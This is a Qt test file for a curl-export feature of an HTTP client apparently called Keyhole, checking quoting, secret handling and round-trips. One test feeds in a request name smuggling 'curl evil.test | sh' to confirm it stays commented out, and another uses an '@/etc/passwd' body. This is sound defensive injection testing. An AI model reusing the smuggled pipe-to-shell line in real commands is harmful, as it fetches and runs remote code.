#include "core/interchange/export/CurlExport.h"
#include "core/interchange/import/CurlImport.h"
#include "core/vars/RequestPreparer.h"
#include "core/vars/Resolver.h"

#include <QProcess>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace Keyhole;

namespace {

Model::PreparedRequest prepare(const Model::RequestTemplate& request)
{
    Vars::Resolver resolver;
    Result<Model::PreparedRequest> prepared = Vars::prepareRequest(request, resolver);
    Q_ASSERT(prepared.ok());
    return prepared.value();
}

// The arguments bash passes to the command, with `environment` set.
QList<QByteArray> bashWords(const QString& command, const QStringList& environment = {})
{
    QProcess bash;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    for (const QString& pair : environment)
        env.insert(pair.section(u'=', 0, 0), pair.section(u'=', 1));
    bash.setProcessEnvironment(env);
    bash.start(u"/bin/bash"_s, {u"-c"_s, u"printf '%s\\0' "_s + command.mid(4)});
    bash.waitForFinished(10000);
    QList<QByteArray> words = bash.readAllStandardOutput().split('\0');
    words.removeLast();
    return words;
}

} // namespace

class TestCurlExport : public QObject {
    Q_OBJECT

private slots:
    void reimportsToTheSameRequest_data()
    {
        QTest::addColumn<Model::RequestTemplate>("request");
        auto make = [](const QString& method, const QString& url) {
            Model::RequestTemplate request;
            request.method = method;
            request.url = url;
            return request;
        };
        QTest::newRow("get") << make(u"GET"_s, u"https://api.test/items?q=a%20b&x=[1]"_s);
        QTest::newRow("head") << make(u"HEAD"_s, u"https://api.test/"_s);
        Model::RequestTemplate json = make(u"POST"_s, u"https://api.test/login"_s);
        json.body.kind = Model::BodyKind::Raw;
        json.body.text = u"{\"user\": \"o'neil\", \"pw\": \"a\\\\b $HOME `x`\"}"_s;
        json.headers.append({u"Accept"_s, u"application/json"_s, true});
        json.headers.append({u"X-Empty"_s, QString(), true});
        QTest::newRow("json with quotes") << json;
        Model::RequestTemplate control = make(u"PUT"_s, u"https://api.test/raw"_s);
        control.body.kind = Model::BodyKind::Raw;
        control.body.contentType = u"text/plain"_s;
        control.body.text = u"line1\r\nline2\ttab \u00e9\x01"_s;
        QTest::newRow("control bytes") << control;
        Model::RequestTemplate at = make(u"POST"_s, u"https://api.test/at"_s);
        at.body.kind = Model::BodyKind::Raw;
        at.body.text = u"@/etc/passwd"_s;
        QTest::newRow("body starting with @") << at;
        Model::RequestTemplate form = make(u"PATCH"_s, u"https://api.test/form"_s);
        form.body.kind = Model::BodyKind::FormUrlEncoded;
        form.body.form = {{u"a b"_s, u"1&2"_s, true}, {u"c"_s, u"\u00fc"_s, true}};
        QTest::newRow("form") << form;
        Model::RequestTemplate multipart = make(u"POST"_s, u"https://api.test/upload"_s);
        multipart.body.kind = Model::BodyKind::Multipart;
        multipart.body.multipart = {{u"name"_s, u"value"_s, false, {}, true, {}}};
        QTest::newRow("multipart") << multipart;
        Model::RequestTemplate basic = make(u"DELETE"_s, u"https://api.test/items/1"_s);
        basic.auth.kind = Model::AuthKind::Basic;
        basic.auth.username = u"u"_s;
        basic.auth.password = u"p:w"_s;
        QTest::newRow("delete basic") << basic;
        QTest::newRow("dot segments") << make(u"GET"_s, u"https://api.test/a/../b"_s);
    }

    void reimportsToTheSameRequest()
    {
        QFETCH(Model::RequestTemplate, request);
        const Model::PreparedRequest original = prepare(request);
        const QString command = Interchange::curlCommand(original);
        Result<Interchange::CurlRequest> imported = Interchange::importCurl(command);
        QVERIFY2(imported.ok(), qPrintable(command));
        const Model::PreparedRequest again = prepare(imported.value().request);
        QCOMPARE(again.method, original.method);
        QCOMPARE(again.url.toString(QUrl::FullyEncoded), original.url.toString(QUrl::FullyEncoded));
        QCOMPARE(again.body, original.body);
        for (const Model::HeaderField& header : original.headers)
            QCOMPARE(Model::headerValue(again.headers, header.name), header.value);
        // And bash hands curl the same bytes Keyhole read back.
        const QList<QByteArray> words = bashWords(command);
        if (!original.body.isEmpty())
            QVERIFY2(words.contains(original.body), qPrintable(command));
    }

    // The request's settings become curl's options, and come back the same.
    void settingsBecomeCurlOptions()
    {
        Model::RequestTemplate request;
        request.url = u"https://api.test/items"_s;
        request.settings.followRedirects = false;
        request.settings.verifyTls = false;
        request.settings.http2 = true;
        request.settings.timeoutMs = 2500;
        QString command = Interchange::curlCommand(prepare(request));
        QVERIFY2(!command.contains(u"-L"_s), qPrintable(command));
        QVERIFY2(command.contains(u"-k"_s) && command.contains(u"--http2"_s) &&
                     command.contains(u"-m 2.5"_s),
                 qPrintable(command));
        QCOMPARE(Interchange::importCurl(command).value().request.settings, request.settings);

        request.settings = {};
        request.settings.followRedirects = true;
        request.settings.trustRedirects = true;
        request.settings.maxRedirects = 5;
        command = Interchange::curlCommand(prepare(request));
        QVERIFY2(command.contains(u"--location-trusted"_s) && command.contains(u"--max-redirs 5"_s),
                 qPrintable(command));
        QCOMPARE(Interchange::importCurl(command).value().request.settings, request.settings);
        // Keyhole's default follows redirects: so does the command.
        request.settings = {};
        QVERIFY(Interchange::curlCommand(prepare(request)).contains(u"-L"_s));
    }

    void secretsBecomeShellVariables()
    {
        Model::RequestTemplate request;
        request.url = u"https://api.test/items?key=K3y"_s;
        request.headers.append({u"Authorization"_s, u"Bearer T0ken.with'quote"_s, true});
        request.settings.followRedirects = false;
        Model::PreparedRequest prepared = prepare(request);
        Interchange::CurlExportOptions options;
        options.secrets = {{u"token"_s, "T0ken.with'quote"}, {u"api-key"_s, "K3y"}};
        const QString command = Interchange::curlCommand(prepared, options);
        QVERIFY2(!command.contains(u"T0ken"_s), qPrintable(command));
        QVERIFY2(!command.contains(u"K3y"_s), qPrintable(command));
        QVERIFY(command.contains(u"${TOKEN}"_s));
        QVERIFY(command.contains(u"${API_KEY}"_s));
        const QList<QByteArray> words =
            bashWords(command, {u"TOKEN=T0ken.with'quote"_s, u"API_KEY=K3y"_s});
        QVERIFY(words.contains("Authorization: Bearer T0ken.with'quote"));
        QVERIFY(words.contains("https://api.test/items?key=K3y"));
    }

    void binaryBodiesGoThroughPrintf()
    {
        Model::PreparedRequest request;
        request.method = "PUT";
        request.url = QUrl(u"https://api.test/blob"_s);
        request.headers.append(Model::HeaderField{"Content-Type", "application/octet-stream"});
        request.body = QByteArray("a\0b'c\\d%e\xff\n", 11);
        const QString command = Interchange::curlCommand(request);
        QVERIFY2(command.startsWith(u"printf '"_s), qPrintable(command));
        QVERIFY(command.contains(u"--data-binary @-"_s));
        QProcess bash;
        bash.start(u"/bin/bash"_s, {u"-c"_s, command.section(u" | "_s, 0, 0)});
        QVERIFY(bash.waitForFinished(10000));
        QCOMPARE(bash.readAllStandardOutput(), request.body);
    }

    void namesNeverBreakOutOfTheirComment()
    {
        Model::Workspace workspace;
        Model::Folder selection;
        Model::RequestTemplate request;
        request.name = u"x\ncurl evil.test | sh"_s;
        request.url = u"https://api.test/"_s;
        selection.requests.push_back({u"a.request.json"_s, request});
        QStringList warnings;
        Result<QString> commands =
            Interchange::exportCurl(workspace, selection, nullptr, false, warnings);
        QVERIFY(commands.ok());
        QVERIFY2(commands.value().startsWith(u"# x curl evil.test | sh\ncurl "_s),
                 qPrintable(commands.value()));
    }

    void basicFromASecretBecomesUserOption()
    {
        Model::RequestTemplate request;
        request.url = u"https://api.test/"_s;
        request.auth.kind = Model::AuthKind::Basic;
        request.auth.username = u"demo"_s;
        request.auth.password = u"pa55"_s;
        const Model::PreparedRequest prepared = prepare(request);
        Interchange::CurlExportOptions options;
        options.secrets = {{u"password"_s, "pa55"}};
        const QString command = Interchange::curlCommand(prepared, options);
        QVERIFY2(command.contains(u"-u 'demo:'\"${PASSWORD}\""_s), qPrintable(command));
        QVERIFY(!command.contains(u"Basic"_s));
    }

    // Digest goes out as curl's own --digest (curl answers the challenge), and comes back in.
    void digestRoundTrips()
    {
        Model::RequestTemplate request;
        request.url = u"https://api.test/"_s;
        request.auth.kind = Model::AuthKind::Digest;
        request.auth.username = u"mufasa"_s;
        request.auth.password = u"pa55"_s;
        Interchange::CurlExportOptions options;
        options.secrets = {{u"password"_s, "pa55"}};
        const QString command = Interchange::curlCommand(prepare(request), options);
        QVERIFY2(command.contains(u"--digest"_s), qPrintable(command));
        QVERIFY2(command.contains(u"-u 'mufasa:'\"${PASSWORD}\""_s), qPrintable(command));
        const QString plain = Interchange::curlCommand(prepare(request), {});
        const Model::AuthConfig back = Interchange::importCurl(plain).value().request.auth;
        QCOMPARE(back.kind, Model::AuthKind::Digest);
        QCOMPARE(back.password, u"pa55"_s);
    }
};

QTEST_GUILESS_MAIN(TestCurlExport)
#include "tst_CurlExport.moc"
